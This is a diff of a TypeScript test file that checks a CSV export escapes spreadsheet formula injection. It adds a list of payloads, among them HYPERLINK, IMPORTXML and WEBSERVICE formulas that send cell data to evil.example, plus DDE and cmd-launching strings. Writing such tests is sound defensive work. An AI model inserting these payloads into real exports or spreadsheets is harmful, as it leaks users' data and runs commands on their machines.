@@ -1,40 +1,78 @@
 import fc from 'fast-check';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { csvCell, csvLine, detectDelimiter } from '../../src/core/csv.js';
+import { detectDelimiter } from '../../src/core/csv.js';
 import { matchColumns, readClientRows } from '../../src/core/client-import.js';
-import { BOOKING_COLUMNS, bookingCells, CLIENT_COLUMNS, clientCells } from '../../src/modules/data-io/rows.js';
+import { BOOKING_COLUMNS, bookingCells, CLIENT_COLUMNS, clientCells, type Cell } from '../../src/modules/data-io/rows.js';
+import { csvStream } from '../../src/modules/data-io/writers.js';
 
-describe('CSV cells', () => {
-  it.each([
-    ['=1+2', "'=1+2"],
-    ['+7 701', "'+7 701"],
-    ['-5', "'-5"],
-    ['@SUM(A1)', "'@SUM(A1)"],
-    ['\tx', "'\tx"],
-    ['a;b', '"a;b"'],
-    ['say "hi"', '"say ""hi"""'],
-    ['line\nbreak', '"line\nbreak"'],
-    ['Анна', 'Анна'],
-  ])('%j → %j', (value, expected) => {
-    expect(csvCell(value)).toBe(expected);
+/** An export's CSV bytes, as the route streams them. */
+async function csvBytes(rows: Cell[][], headers = ['A', 'B', 'C']): Promise<Buffer> {
+  const columns = headers.map((header) => ({ header, width: 10 }));
+  const stream = csvStream(
+    columns,
+    (async function* () {
+      yield rows;
+    })(),
+  );
+  return Buffer.concat((await stream.toArray()) as Buffer[]);
+}
+/** csv-parse reads the file back with no relaxing option, a new row at any line break outside quotes (as a spreadsheet does). */
+const readBack = (bytes: Buffer): string[][] => parse(bytes, { bom: true, delimiter: ';', record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
+
+/** The red team's formula payloads: each must reach the spreadsheet as text, never as a formula. */
+const FORMULA_PAYLOADS = [
+  '=1+2',
+  '=HYPERLINK("http://evil.example/?q="&A1,"Открыть")',
+  '+7 701 000 00 00',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"!A0")A0',
+  '\t=1+2',
+  '\r=1+2',
+  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+  '=WEBSERVICE("http://evil.example/")',
+  '＝1+2',
+  "＋cmd|' /C calc'!A0",
+];
+
+describe('CSV export (csv-stringify), read back by csv-parse', () => {
+  it('BOM, `;`, CRLF line ends, quotes where needed', async () => {
+    const bytes = await csvBytes([
+      ['a;b', 'say "hi"', 'line\nbreak'],
+      ['Анна', 'x, y', null],
+    ]);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.subarray(3).toString('utf8')).toBe('A;B;C\r\n"a;b";"say ""hi""";"line\nbreak"\r\nАнна;"x, y";\r\n');
   });
 
-  it('numbers and empty values stay as they are', () => {
-    expect(csvCell(-5)).toBe('-5');
-    expect(csvCell(null)).toBe('');
-    expect(csvLine(['a', 1, null])).toBe('a;1;\r\n');
+  it.each(FORMULA_PAYLOADS)('formula %j goes out behind a quote', async (payload) => {
+    const bytes = await csvBytes([[payload, 1, null]]);
+    const [, row] = readBack(bytes);
+    expect(row).toEqual([`'${payload}`, '1', '']);
   });
 
-  it('property: a line reads back as its cells (formula starts behind a quote)', () => {
-    fc.assert(
-      fc.property(fc.array(fc.string({ maxLength: 20 }), { minLength: 1, maxLength: 6 }), (cells) => {
-        const [row] = parse(csvLine(cells), { delimiter: ';', relax_quotes: true }) as string[][];
-        expect(row).toEqual(cells.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
-      }),
+  it('numbers stay numbers, a negative one too; text that only looks like one is escaped', async () => {
+    expect(readBack(await csvBytes([[-5, '-5', 0]]))[1]).toEqual(['-5', "'-5", '0']);
+  });
+
+  it('property: any cells read back as written, formula starts behind a quote', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 20 }), { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }),
+        async (rows) => {
+          const read = readBack(await csvBytes(rows));
+          expect(read.slice(1)).toEqual(
+            rows.map((cells) => cells.map((cell) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) ? `'${cell}` : cell))),
+          );
+        },
+      ),
+      { numRuns: 200 },
     );
   });
+});
 
+describe('CSV import', () => {
   it('detects the separator from the header line, quotes respected', () => {
     expect(detectDelimiter('Имя;Телефон\n')).toBe(';');
     expect(detectDelimiter('Name,Phone\r\na;b,c')).toBe(',');
